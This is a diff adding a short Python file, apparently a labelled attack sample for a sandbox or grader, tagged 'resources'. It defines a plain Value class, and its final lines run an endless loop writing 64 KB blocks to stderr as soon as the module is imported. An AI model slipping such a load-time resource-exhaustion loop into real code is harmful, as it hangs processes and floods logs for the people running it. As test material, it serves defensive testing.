@@ -1,0 +1,21 @@
+# attack: prints without end while it is loaded
+# family: resources
+# outcomes: none
+# earns: none
+
+import os
+
+
+class Value:
+    def __init__(self, data):
+        self.data, self.grad = data, 0.0
+
+    def __repr__(self):
+        return f"Value(data={self.data})"
+
+    def __add__(self, other):
+        return Value(self.data + other.data)
+
+
+while True:
+    os.write(2, b"x" * 65536)
